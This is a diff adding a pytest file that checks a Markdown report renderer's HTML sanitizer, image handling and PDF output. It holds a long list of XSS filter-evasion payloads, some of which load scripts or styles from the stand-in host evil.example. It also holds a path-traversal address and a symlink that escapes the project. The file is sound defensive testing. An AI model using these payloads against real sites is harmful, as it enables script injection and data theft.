@@ -1,0 +1,417 @@
+"""A page of a report runs nothing, loads nothing and says what is missing."""
+
+from __future__ import annotations
+
+import html.parser
+import re
+from itertools import pairwise
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from PIL import Image
+
+from loopline.report import ReportFile, check_report, find_browser, open_report, render_report, write_pdf
+from loopline.report.markup import TAGS, safe_html
+
+# The families of the OWASP filter-evasion list and of html5sec, written out: handlers, schemes, encodings, broken
+# markup, containers that change how what follows is read, and Markdown that makes such HTML.
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x20type='text/javascript'>javascript:alert(1);</script>",
+    "<script/xss src=//evil.example/x.js></script>",
+    "<<script>alert(1);//<</script>",
+    "<script>alert(1)",
+    "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="javascript:alert(1)">',
+    "<img src=JaVaScRiPt:alert(1)>",
+    "<img src=`javascript:alert(1)`>",
+    '<img """><script>alert(1)</script>">',
+    '<img src="jav&#x09;ascript:alert(1);">',
+    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    "<img src=x:x onerror\x0b=alert(1)>",
+    "<img/onerror=alert(1) src=x>",
+    "<img src='x' onerror='alert(1)'>",
+    '<img srcset="x" onload=alert(1)>',
+    "<img lowsrc='javascript:alert(1)' dynsrc='javascript:alert(1)'>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<math><maction actiontype='statusline#https://x' xlink:href='javascript:alert(1)'>x</maction></math>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='javascript:alert(1)'>",
+    "<applet code=x></applet>",
+    "<form action='javascript:alert(1)'><button>x</button></form>",
+    "<form><button formaction=javascript:alert(1)>x",
+    "<input autofocus onfocus=alert(1)>",
+    "<select onfocus=alert(1) autofocus><option>x</select>",
+    "<textarea onfocus=alert(1) autofocus>",
+    "<keygen onfocus=alert(1) autofocus>",
+    "<video><source onerror=alert(1)></video>",
+    "<video src=x onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<body background='javascript:alert(1)'>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<div onmouseover='alert(1)'>x</div>",
+    "<p onpointerenter=alert(1)>x",
+    "<div style='background:url(javascript:alert(1))'>x</div>",
+    "<div style='width:expression(alert(1))'>x</div>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<style>body{background:url('https://evil.example/x')}</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<link rel=import href=data:text/html,<script>alert(1)</script>>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href='https://evil.example/'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href=' &#14; javascript:alert(1)'>x</a>",
+    "<a href='&Tab;javascript&colon;alert(1)'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
+    "<a href='x' onclick=alert(1)>x</a>",
+    "<a href='blob:x' ping='https://evil.example'>x</a>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<plaintext><img src=x onerror=alert(1)>",
+    "<frameset><frame src='javascript:alert(1)'></frameset>",
+    "<table background='javascript:alert(1)'><tr><td background='javascript:alert(1)'>x</table>",
+    "<bgsound src='javascript:alert(1)'>",
+    "<?xml version='1.0'?><x onload=alert(1)/>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<x onclick=alert(1)>x</x>",
+    "<custom-element onfocus=alert(1) tabindex=0 autofocus>x",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](&#x6A;avascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:x)",
+    '[x](https://a.example "onclick=alert(1)")',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    '![" onerror="alert(1)](x.png)',
+    '![x](x.png" onerror="alert(1))',
+    '```"><script>alert(1)</script>\nx\n```',
+    "```html\n<script>alert(1)</script>\n```",
+    "`<script>alert(1)</script>`",
+    "# <img src=x onerror=alert(1)>",
+    "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
+    "- [x] <script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\<script>alert(1)\\</script>",
+    "<div><a id=body><a name=cookie>x",
+    "<span class='verdict bad' id='question-1'>x</span>",
+]
+REPORT = """# {payload}
+
+{payload}
+
+## {payload}
+
+### Question 1: {payload}
+
+> **{payload}**
+>
+> Answer:
+
+{payload}
+"""
+
+
+class Elements(html.parser.HTMLParser):
+    """Every element of a page with its attributes."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str]]] = []
+        self.feed(page)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, {name: value or "" for name, value in attrs}))
+
+
+def no_picture(address: str) -> None:
+    """No address is a picture."""
+
+
+def report_of(text: str, folder: Path) -> ReportFile:
+    """A report's text as a file of a project."""
+    return ReportFile(folder / "README.md", folder, text)
+
+
+def expect_harmless(page: str, allowed: frozenset[str]) -> None:
+    """No element that is not expected, no handler, no address with a scheme that runs."""
+    for tag, attributes in Elements(page).found:
+        assert tag in allowed, (tag, attributes)
+        for name, value in attributes.items():
+            assert not name.startswith("on"), (tag, name)
+            assert name != "style", tag
+            if name in ("href", "src", "action", "formaction", "data", "poster", "background"):
+                plain = re.sub(r"[\s\x00-\x20]", "", value).lower()
+                assert not re.match(r"(javascript|vbscript|blob|file):", plain), value
+                assert not plain.startswith("data:") or (tag == "img" and re.match(r"data:image/(png|jpeg);", plain)), (
+                    value
+                )
+
+
+OWN = ["### Question 1", "> Answer:", "# a", "- [x] b", "![a](b.png)", "```"]
+PAGE = frozenset(
+    [
+        "html",
+        "head",
+        "meta",
+        "title",
+        "style",
+        "body",
+        "header",
+        "main",
+        "footer",
+        "nav",
+        "section",
+        "article",
+        "h1",
+        "h2",
+        "progress",
+        "time",
+    ]
+)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_payload_survives(payload: str) -> None:
+    """Each alone becomes what is allowed, or goes."""
+    expect_harmless(safe_html(payload, picture=no_picture), TAGS)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS[::12])
+def test_no_payload_survives_in_any_place(payload: str, tmp_path: Path) -> None:
+    """In a title, a heading, a prompt, an answer; ids are the page's own, so nothing takes a heading's place."""
+    page = render_report(report_of(REPORT.replace("{payload}", payload), tmp_path))
+    expect_harmless(page, TAGS | PAGE)
+    ids = [attributes["id"] for _, attributes in Elements(page).found if "id" in attributes]
+    assert len(ids) == len(set(ids))
+    assert [tag for tag, _ in Elements(page).found].count("meta") == 4
+
+
+def test_payloads_do_not_help_each_other(tmp_path: Path) -> None:
+    """All of them as the answers of one report."""
+    text = "".join(f"### Question {number}\n> Answer:\n\n{payload}\n\n" for number, payload in enumerate(PAYLOADS, 1))
+    expect_harmless(render_report(report_of(text, tmp_path)), TAGS | PAGE)
+
+
+TEXT = """---
+layout: default
+---
+# Our report
+
+Hello.
+
+## Checklist
+
+* [x] Make a repository
+* [ ] Write tests
+
+## Code
+
+### Question 1
+
+> **What did you log?**
+>
+> Answer length: 3-50 words + 1 to 2 screenshots.
+>
+> Example:
+> *We ...*
+>
+> Answer:
+
+See ![the loss](figures/plot.png) here, as we said.
+
+```python
+import torch  # fast
+```
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+### Question 2
+
+> **And why?**
+>
+> Answer:
+
+--- question 2 fill here ---
+
+### Question 3
+
+> **More?**
+>
+> Answer length: 0-10 words
+>
+> Answer:
+
+# Own
+
+No ![gone](figures/gone.png).
+"""
+
+
+@pytest.fixture
+def project(tmp_path: Path) -> Path:
+    """A project with a report and its pictures."""
+    figures = tmp_path / "reports" / "figures"
+    figures.mkdir(parents=True)
+    Image.new("RGB", (40, 30), "teal").save(figures / "plot.png")
+    Image.effect_noise((1800, 1000), 90).save(figures / "large.png")
+    Image.new("RGB", (4, 4)).save(figures / "photo.jpg")
+    (figures / "broken.png").write_bytes(b"\x89PNG\r\n\x1a\nnothing")
+    (figures / "notes.txt").write_text("x")
+    Image.new("RGB", (4, 4)).save(tmp_path / "reports" / "loose.png")
+    (tmp_path / ".git").mkdir()
+    (tmp_path / "reports" / "README.md").write_text(TEXT)
+    return tmp_path
+
+
+def test_a_page_holds_everything(project: Path) -> None:
+    """Pictures, coloured code, a table, the checklist's progress, every question with its state, headings in order."""
+    page = render_report(open_report(project))
+    found = Elements(page).found
+    sources = [attributes["src"] for tag, attributes in found if tag == "img" and "src" in attributes]
+    assert len(sources) == 1
+    assert sources[0].startswith("data:image/png;base64,")
+    assert ("img", {"alt": "gone"}) in found
+    assert '<span class="kn">import</span>' in page
+    assert 'value="1" max="2" aria-label="1 of 2 ticked"' in page
+    assert "☑ Make a repository" in page
+    assert "☐ Write tests" in page
+    assert "1 of 3 answers keep the limits" in page
+    assert "No answer yet." in page
+    assert "layout: default" not in page
+    levels = [int(tag[1]) for tag, _ in found if re.fullmatch(r"h[1-6]", tag)]
+    assert levels[0] == 1
+    assert levels.count(1) == 1
+    assert all(after - before <= 1 for before, after in pairwise(levels))
+    links = {
+        attributes["href"][1:] for tag, attributes in found if tag == "a" and attributes.get("href", "").startswith("#")
+    }
+    assert links <= {attributes["id"] for _, attributes in found if "id" in attributes}
+    assert {"question-1", "question-2", "question-3", "checklist", "code"} <= links
+
+
+def test_large_pictures_become_smaller(project: Path) -> None:
+    """A page of screenshots should still fit into a mail."""
+    path = project / "reports" / "README.md"
+    path.write_text(path.read_text().replace("figures/plot.png", "figures/large.png"))
+    original = (project / "reports" / "figures" / "large.png").stat().st_size
+    page = render_report(open_report(project))
+    assert "data:image/jpeg;base64," in page
+    assert len(page) < original
+
+
+@pytest.mark.parametrize(
+    ("address", "problem"),
+    [
+        ("figures/plot.png", None),
+        ("./figures/plot.png", None),
+        ("/reports/figures/plot.png", None),
+        ("figures\\plot.png", None),
+        ("figures/photo.jpg", None),
+        ("figures/gone.png", "does not exist"),
+        ("figures/broken.png", "damaged"),
+        ("figures/notes.txt", "no picture of the kinds"),
+        ("loose.png", "not in a folder 'figures'"),
+        ("https://example.org/a.png", "no file of the project"),
+        ("data:image/png;base64,AAAA", "no file of the project"),
+        ("../../../../../../etc/hostname", "does not exist"),
+        ("figures/" + "a" * 300 + ".png", "does not exist"),
+    ],
+)
+def test_a_picture_counts_where_a_reader_sees_it(project: Path, address: str, problem: str | None) -> None:
+    """And what keeps it from counting is said."""
+    path = project / "reports" / "README.md"
+    path.write_text(path.read_text().replace("figures/plot.png", f"<{address}>"))
+    answer = check_report(open_report(project)).answers[0]
+    sentences = " ".join(found.sentence for found in answer.problems)
+    assert (answer.num_images == 1) == (problem is None)
+    assert problem is None or problem in sentences
+
+
+def test_a_link_out_of_the_project_is_not_followed(project: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
+    """A report must not put somebody else's files on its page."""
+    outside = tmp_path_factory.mktemp("outside") / "figures"
+    outside.mkdir()
+    Image.new("RGB", (4, 4)).save(outside / "secret.png")
+    (project / "reports" / "figures" / "plot.png").unlink()
+    (project / "reports" / "figures" / "plot.png").symlink_to(outside / "secret.png")
+    assert check_report(open_report(project)).answers[0].num_images == 0
+    assert "data:image" not in render_report(open_report(project))
+
+
+MARKDOWN = st.lists(st.one_of(st.sampled_from([*PAYLOADS, *OWN]), st.text(max_size=20)), max_size=12).map("\n".join)
+
+
+@settings(max_examples=15, derandomize=True, deadline=None)
+@given(MARKDOWN)
+def test_no_text_makes_check_or_page_raise(text: str) -> None:
+    """Nor lets anything through."""
+    file = report_of(text, Path("/nonexistent"))
+    check_report(file)
+    expect_harmless(render_report(file), TAGS | PAGE)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "> " * 2000 + "x",
+        "- " * 1000 + "x",
+        "[" * 1500,
+        "*a_" * 1000,
+        "<div>" * 1000,
+        "![" * 1000,
+        "-" * 5000 + " |",
+        " " * 5000 + "x",
+        "*" * 5000,
+        "# " * 5000,
+    ],
+)
+def test_deep_and_odd_texts_end(text: str, tmp_path: Path) -> None:
+    """Nothing in a text makes the reading explode."""
+    render_report(report_of(f"### Question 1\n> Answer:\n\n{text}\n", tmp_path))
+
+
+@pytest.mark.skipif(find_browser() is None, reason="no browser is installed")
+def test_a_page_prints_to_pdf(project: Path) -> None:
+    """Through a real browser."""
+    target = project / "report.pdf"
+    write_pdf(render_report(open_report(project)), target)
+    assert target.read_bytes().startswith(b"%PDF-")
+
+
+def test_without_a_browser_the_sentence_says_what_to_do(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """No browser, no PDF, no half a file."""
+    monkeypatch.setenv("PATH", str(project))
+    with pytest.raises(Exception, match=r"no browser to print a PDF with.*Next: install Chromium"):
+        write_pdf("<p>", project / "report.pdf")
+    assert not (project / "report.pdf").exists()
